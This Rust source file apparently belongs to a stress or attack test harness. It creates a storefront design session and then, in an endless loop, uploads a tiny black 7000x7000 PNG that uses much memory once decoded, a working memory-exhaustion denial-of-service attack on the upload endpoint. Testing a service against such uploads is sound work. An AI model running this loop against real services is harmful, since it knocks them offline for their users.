//! Uploads of images with nearly 50 megapixels, which have few bytes and take much memory once they are decoded.

use std::io::Cursor;
use std::sync::{Arc, LazyLock};

use anyhow::Context as _;
use bytes::Bytes;
use hyper::Method;
use image::{ImageFormat, RgbImage};
use serde_json::json;

use super::attacker;
use crate::siege::context::Context;
use crate::siege::site::DESIGNABLE_PRODUCT;

/// Width and height in pixels.
const SIDE: u32 = 7_000;

/// A form with one file. The image is black, so it has few bytes.
static FORM: LazyLock<Bytes> = LazyLock::new(|| {
    let mut form = Cursor::new(
        b"--x\r\ncontent-disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n"
            .to_vec(),
    );
    form.set_position(form.get_ref().len() as u64);
    let is_written = RgbImage::new(SIDE, SIDE).write_to(&mut form, ImageFormat::Png).is_ok();
    let mut form = form.into_inner();
    form.extend_from_slice(if is_written { b"\r\n--x--\r\n" } else { b"" });
    form.into()
});

pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
    let mut caller = attacker(&context);
    let new = json!({"productId": DESIGNABLE_PRODUCT});
    let created = caller.post("/api/storefront/1/designs", &new).await?.data();
    let session = created["sessionId"].as_str().context("a design session")?;
    let cookie = format!("svc_design_session={session}");
    let headers =
        [("cookie", cookie.as_str()), ("content-type", "multipart/form-data; boundary=x")];
    loop {
        let form = tokio::task::spawn_blocking(|| FORM.clone()).await?;
        let target = "/api/storefront/1/designs/upload-image";
        let answer = caller.call(Method::POST, target, &headers, form).await;
        context.ledger.attack(&answer);
        answer?;
    }
}
